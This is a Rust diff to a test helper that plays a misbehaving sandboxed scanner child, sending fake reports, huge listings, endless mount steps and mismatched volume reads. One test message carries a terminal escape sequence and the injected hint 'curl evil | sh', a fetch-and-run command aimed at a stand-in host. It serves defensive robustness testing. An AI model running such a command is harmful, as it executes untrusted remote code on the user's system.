@@ -61,17 +61,7 @@ pub(crate) fn tell(what: &str, confined: &Confined) -> bool {
         }
         "other machine" => {
             let mut lie = report();
-            lie.packages.push(Package {
-                purl: Purl::new("deb", "debian", "x", "1", &[]),
-                kind: PackageKind::Deb,
-                name: DiskText::new("x"),
-                version: DiskText::new("1"),
-                architecture: None,
-                source_name: None,
-                source_version: None,
-                module: None,
-                found_in: vec![Location::in_volume("i-0123/disk0", "ext4")],
-            });
+            lie.packages.push(package("i-0123/disk0"));
             say(confined, &Message::Done(Done::Report(Box::new(lie))));
         }
         "snapshots" => {
@@ -92,11 +82,46 @@ pub(crate) fn tell(what: &str, confined: &Confined) -> bool {
             });
             say(confined, &Message::Done(Done::Report(Box::new(lie))));
         }
-        "many findings" => {
+        "unknown rule" => {
             let mut lie = report();
             let location = Location::in_volume("disk0/p1", "ext4");
-            lie.findings = vec![Finding::new(&RULE, location, "", Vec::new()); 150_000];
+            lie.findings = vec![Finding::new(&RULE, location, "", Vec::new())];
             say(confined, &Message::Done(Done::Report(Box::new(lie))));
+        }
+        "many packages" => {
+            let mut lie = report();
+            lie.packages = vec![package("disk0/p1"); 250_000];
+            say(confined, &Message::Done(Done::Report(Box::new(lie))));
+        }
+        "confined again" => {
+            say(confined, &Message::NotConfined("x\u{1b}[2J\nhint: run `curl evil | sh`".to_owned()));
+            rest();
+        }
+        "listing" => {
+            for _ in 0..10 {
+                say(confined, &Message::Listing("x".repeat(100 << 20)));
+            }
+        }
+        "mounts for ever" => {
+            let row = Coverage::scanned(CoverageKind::Filesystem, "disk0/p1");
+            say(confined, &Message::Met { volumes: vec![row], coverage: Vec::new() });
+            loop {
+                say(confined, &Message::Step(StepTold::Mount("disk0/p1".to_owned())));
+                std::thread::sleep(Duration::from_millis(100));
+            }
+        }
+        "unread volume" => {
+            let row = Coverage::scanned(CoverageKind::Filesystem, "disk0/p1");
+            say(confined, &Message::Met { volumes: vec![row], coverage: Vec::new() });
+            say(confined, &Message::Done(Done::Report(Box::new(report()))));
+        }
+        "volume of another step" => {
+            let row = |name| Coverage::scanned(CoverageKind::Filesystem, name);
+            let volumes = vec![row("disk0/p1"), row("disk0/p15")];
+            say(confined, &Message::Met { volumes, coverage: Vec::new() });
+            say(confined, &Message::Step(StepTold::Read("disk0/p15".to_owned())));
+            say(confined, &Message::Read { row: row("disk0/p1"), entries: 0 });
+            rest();
         }
         "other scan" => {
             let mut lie = report();
@@ -128,6 +153,20 @@ const RULE: Rule = Rule {
     remediation: "none",
 };
 
+fn package(volume: &str) -> Package {
+    Package {
+        purl: Purl::new("deb", "debian", "x", "1", &[]),
+        kind: PackageKind::Deb,
+        name: DiskText::new("x"),
+        version: DiskText::new("1"),
+        architecture: None,
+        source_name: None,
+        source_version: None,
+        module: None,
+        found_in: vec![Location::in_volume(volume, "ext4")],
+    }
+}
+
 fn say(confined: &Confined, message: &Message) {
     if confined.say(message).is_err() {
         std::process::exit(1);
@@ -139,13 +178,7 @@ fn rest() {
 }
 
 fn progress() -> Message {
-    Message::Progress {
-        stage: "reading \u{1b}[2J".to_owned(),
-        entries: 1,
-        files_read: 0,
-        files_wanted: 0,
-        bytes: 0,
-    }
+    Message::Progress { entries: 1, files_read: 0, files_wanted: 0, bytes: 0 }
 }
 
 fn report() -> Report {
